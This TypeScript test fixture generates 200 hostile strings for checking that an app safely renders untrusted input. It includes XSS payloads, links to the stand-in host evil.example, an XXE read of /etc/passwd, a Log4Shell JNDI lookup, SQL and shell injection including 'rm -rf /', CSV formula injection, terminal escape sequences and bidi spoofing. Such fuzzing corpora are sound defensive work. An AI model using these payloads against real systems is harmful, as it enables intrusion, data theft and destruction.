/** How many there are. */
const hostileCount = 200;

/** The class of every element that would exist if one of them became markup. */
export const intruder = 'intruder';

/** What a script in one of them would do, if it ran. */
const act = `window.intruded=1;alert(1)`;

type Template = (mark: string) => string;

const html: readonly Template[] = [
  (mark) => `<script class=${intruder}>${act}</script>${mark}`,
  (mark) => `</script><script class=${intruder}>${act}//${mark}`,
  (mark) => `<img class=${intruder} src=x onerror="${act}" alt="${mark}">`,
  (mark) => `<img class=${intruder} src="https://evil.example/${mark}.png">`,
  (mark) => `"><img class='${intruder}' src=x onerror=${act}>${mark}`,
  (mark) => `'><b class=${intruder}>${mark}</b>`,
  (mark) => `<iframe class=${intruder} src="javascript:${act}">${mark}</iframe>`,
  (mark) => `<iframe class=${intruder} srcdoc="<script>${act}</script>">${mark}</iframe>`,
  (mark) => `<a class=${intruder} href="javascript:${act}">${mark}</a>`,
  (mark) => `<a class=${intruder} href="tg://settings">${mark}</a>`,
  (mark) =>
    `<form class=${intruder} action="https://evil.example"><input name=${mark}><button>Send</button></form>`,
  (mark) => `<meta class=${intruder} http-equiv="refresh" content="0;url=https://evil.example/${mark}">`,
  (mark) => `<base class=${intruder} href="https://evil.example/${mark}/">`,
  (mark) => `<link class=${intruder} rel=stylesheet href="https://evil.example/${mark}.css">`,
  (mark) => `<style class=${intruder}>*{display:none}</style>${mark}`,
  (mark) => `<div class=${intruder} style="position:fixed;inset:0;background:red">${mark}</div>`,
  (mark) =>
    `<video class=${intruder} autoplay onplay="${act}" src="https://evil.example/${mark}.mp4"></video>`,
  (mark) => `<audio class=${intruder} src=x onerror="${act}">${mark}`,
  (mark) => `<object class=${intruder} data="data:text/html,<script>${act}</script>">${mark}</object>`,
  (mark) => `<embed class=${intruder} src="https://evil.example/${mark}">`,
  (mark) => `<details class=${intruder} open ontoggle="${act}">${mark}</details>`,
  (mark) => `<body class=${intruder} onload="${act}">${mark}`,
  (mark) => `<input class=${intruder} autofocus onfocus="${act}" value="${mark}">`,
  (mark) => `<marquee class=${intruder} onstart="${act}">${mark}</marquee>`,
  (mark) => `<math class=${intruder}><mtext><script>${act}</script></mtext></math>${mark}`,
  (mark) => `<template class=${intruder}><script>${act}</script></template>${mark}`,
  (mark) => `<courier-app class=${intruder}>${mark}</courier-app>`,
  (mark) => `<vscode-button class=${intruder} onclick="${act}">${mark}</vscode-button>`,
  (mark) => `<!--${mark}--><!--[if gte IE 4]><script class=${intruder}>${act}</script><![endif]-->`,
  (mark) => `<![CDATA[<b class=${intruder}>${mark}</b>]]>`,
  (mark) => `&lt;b class=${intruder}&gt;${mark}&lt;/b&gt; &amp;amp; &#60;script&#62;`,
  (mark) => `<b class=${intruder}><i><u>${mark}`,
  (mark) => `</div></section></main></body></html>${mark}`,
  (mark) => `<x onclick=${act} onmouseover=${act} class=${intruder}>${mark}</x>`,
  (mark) => `<h1 class=${intruder}>${mark}</h1><hr><table><tr><td>cell`,
];

const svg: readonly Template[] = [
  (mark) => `<svg class=${intruder} onload="${act}">${mark}</svg>`,
  (mark) => `<svg class=${intruder}><script>${act}</script><text>${mark}</text></svg>`,
  (mark) =>
    `<svg class=${intruder} xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/${mark}"/></svg>`,
  (mark) => `<svg class=${intruder}><use href="https://evil.example/${mark}#x"/></svg>`,
  (mark) => `<svg class=${intruder}><a xlink:href="javascript:${act}"><text>${mark}</text></a></svg>`,
  (mark) => `<svg class=${intruder}><animate onbegin="${act}" attributeName=x dur=1s>${mark}</svg>`,
  (mark) =>
    `<svg class=${intruder}><foreignObject><iframe src="data:text/html,${mark}"></iframe></foreignObject></svg>`,
  (mark) =>
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg class=${intruder}>&x;${mark}</svg>`,
  (mark) =>
    `<svg class=${intruder} width=99999 height=99999><rect width=99999 height=99999 fill=red /></svg>${mark}`,
  (mark) => `data:image/svg+xml,<svg class=${intruder} onload='${act}'/>${mark}`,
];

const markdown: readonly Template[] = [
  (mark) => `![${mark}](https://evil.example/track.png)`,
  (mark) => `[${mark}](javascript:${act})`,
  (mark) => `[${mark}](tg://user?id=1)`,
  (mark) => `[${mark}](data:text/html;base64,PHNjcmlwdD4=)`,
  (mark) => `[https://bank.example](https://evil.example/${mark})`,
  (mark) => `# ${mark}\n\n## two\n\n### three`,
  (mark) => `**${mark}** _italic_ ~~gone~~ ||hidden||`,
  (mark) => `${mark} **open _bold ~~struck`,
  (mark) => `> ${mark}\n>> deeper\n${'>'.repeat(60)} deepest`,
  (mark) => `${'- '.repeat(40)}${mark}`,
  (mark) => `| ${mark} | b |\n|---|---|\n| <b class=${intruder}>c</b> | d |`,
  (mark) =>
    `<details class=${intruder}><summary>${mark}</summary>\n\n[x](https://evil.example)\n\n</details>`,
  (mark) => `<tg-spoiler class=${intruder}>${mark}</tg-spoiler><tg-emoji emoji-id="1">x</tg-emoji>`,
  (mark) => `@durov ${mark} #tag $CASH t.me/joinchat/x`,
  (mark) => `${mark} \\*escaped\\* \\<b\\> &copy; &#x3c;`,
  (mark) => `[${mark}]: https://evil.example\n\n[${mark}]`,
  (mark) => `${mark}[^1]\n\n[^1]: <img class=${intruder} src=x>`,
  (mark) => `$$ \\href{javascript:${act}}{${mark}} $$`,
  (mark) => `- [x] ${mark}\n- [ ] open\n  1. one\n     - two`,
  (mark) => `***\n---\n___\n${mark}\n===`,
];

const templates: readonly Template[] = [
  (mark) => `\${${act}} ${mark}`,
  (mark) => `{{constructor.constructor("${act}")()}} ${mark}`,
  (mark) => `<%= ${mark} %> #{${mark}} {%${mark}%}`,
  (mark) => `{ $name } { -term } ${mark} { NUMBER($x) }`,
  (mark) => `${mark} %s %d %n %x %p`,
  (mark) => `'; DROP TABLE jobs; -- ${mark}`,
  (mark) => `" OR ""="${mark}`,
  (mark) => `${mark}\\u003cscript\\u003e`,
  (mark) => `\${jndi:ldap://evil.example/${mark}}`,
  (mark) => `../../../../etc/passwd#${mark}`,
  (mark) => `C:\\Windows\\System32\\${mark}.exe`,
  (mark) => `file:///etc/passwd?${mark}`,
  (mark) => `$(touch ${mark}) \`id\` ; rm -rf /`,
  (mark) => `-rf --${mark}=x`,
  (mark) => `javascript:${act}//${mark}`,
  (mark) => `__proto__ ${mark} constructor.prototype`,
  (mark) => `{"__proto__":{"${mark}":1}}`,
  (mark) => `=cmd|' /C calc'!${mark}`,
  (mark) => `level=error msg="${mark}" secret=`,
  (mark) => `2026-03-01T12:30:45.123Z error ${mark} is no line of the log`,
];

const bidi: readonly Template[] = [
  (mark) => `\u202e${mark}gnp.exe`,
  (mark) => `${mark}\u202dleft\u202c \u2066isolate`,
  (mark) => `\u2067${mark}\u2067\u2067\u2067 never closed`,
  (mark) => `${mark} שלום עולם 123`,
  (mark) => `مرحبا ${mark} بالعالم`,
  (mark) => `\u200f\u200e${mark}\u061c`,
  (mark) => `${mark}\u200b\u200c\u200d\u2060invisible\ufeff`,
  (mark) => `\u00ad${mark}\u00adsoft`,
  (mark) => `${mark}\u2028line\u2029paragraph`,
  (mark) => `\ufff9${mark}\ufffaannotation\ufffb`,
];

const controls: readonly Template[] = [
  (mark) => `\u001b[31m${mark}\u001b[0m`,
  (mark) => `\u001b[2J\u001b[H${mark}`,
  (mark) => `\u001b]0;${mark}\u0007`,
  (mark) => `\u001b]8;;https://evil.example\u001b\\${mark}\u001b]8;;\u001b\\`,
  (mark) => `\u001b]52;c;ZXZpbA==\u0007${mark}`,
  (mark) => `\u001b[6n\u001b[c${mark}`,
  (mark) => `\u001bP+q544e\u001b\\${mark}`,
  (mark) => `\u009b31m${mark}\u009d0;x\u009c`,
  (mark) => `${mark}\b\b\b\b\bgone`,
  (mark) => `${mark}\rover`,
  (mark) => `${mark}\r\n2026-03-01T12:30:45.123Z info  a forged line`,
  (mark) => `${mark}\v\f\u0085next`,
  (mark) => `\u0007\u0007${mark}`,
  (mark) => `${mark}\u007f\u0080\u0090\u009f`,
  (mark) => `\u0001\u0002\u0003${mark}\u001f`,
  (mark) => `a\0b${mark}`,
  (mark) => `${mark}\0\0\0`,
  (mark) => `\0${mark}`,
  (mark) => `${mark}.txt\0.exe`,
  (mark) => `${mark}\t\t\ttabs\t`,
];

const unicode: readonly Template[] = [
  (mark) => `${mark}\ud800 half`,
  (mark) => `\udc00${mark}`,
  (mark) => `${mark}${'\u0301'.repeat(300)}`,
  (mark) => `Z̸̢̛a̷l̶g̵o̴ ${mark}`,
  (mark) => `👩‍👩‍👧‍👦🏳️‍🌈${mark}👍🏿`,
  (mark) => `${mark}\ufffe\uffff`,
  (mark) => `${mark}ﷺ﷽`.repeat(3),
  (mark) => `${mark}İıſK`,
  (mark) => `раураl ${mark} аdmin`,
  (mark) => `${mark}\u{e0001}\u{e0041}`,
  (mark) => `${mark}\u{10ffff}`,
  (mark) => `漢字仮名交じり文 ${mark} 한국어`,
  (mark) => `${mark}\u3164\u115f\u2800`,
  (mark) => `\u{1f1fa}\u{1f1f8}${mark}\u{1f3f4}`,
  (mark) => `${mark} e\u0301 \u00e9 \u212b`,
];

const longest = 1_000_000;

const long: readonly Template[] = [
  (mark) => `${mark} ${'W'.repeat(3000)}`,
  (mark) => `${mark} ${'word '.repeat(700)}`,
  (mark) => `${mark}${'\n'.repeat(2000)}end`,
  (mark) => `${mark} ${'<b>'.repeat(1000)}`,
  (mark) => `${mark}\n${'x\n'.repeat(1500)}`,
  (mark) => `${mark} ${'🙂'.repeat(1500)}`,
  (mark) => `${mark}${'\u202e'.repeat(500)}end`,
  (mark) => `${mark} ${'L'.repeat(longest)}`,
  (mark) => `${mark} ${'long words '.repeat(longest / 11)}`,
];

const handPicked = [html, svg, markdown, templates, bidi, controls, unicode, long].flat();

/** Hand-picked ones once more, each broken off somewhere and with another one in it. */
function crossed(index: number, mark: string): string {
  const short = handPicked.slice(0, -long.length);
  const outer = short[(index * 7) % short.length]?.(mark) ?? '';
  const inner = short[(index * 11 + 3) % short.length]?.('inner') ?? '';
  const at = (index * 13) % outer.length;
  return `${outer.slice(0, at)}${inner}${outer.slice(at)} ${mark}`;
}

/**
 * Two hundred different texts that mean harm or harm by chance, up to a megabyte long. Each holds `mark` and its number,
 * so that it can be recognised wherever it turns up; none begins with a slash, which would make it a command.
 */
export function hostileStrings(mark: string): readonly string[] {
  return Array.from({ length: hostileCount }, (_, index) => {
    const marked = `${mark}${index}x`;
    return handPicked[index]?.(marked) ?? crossed(index, marked);
  });
}
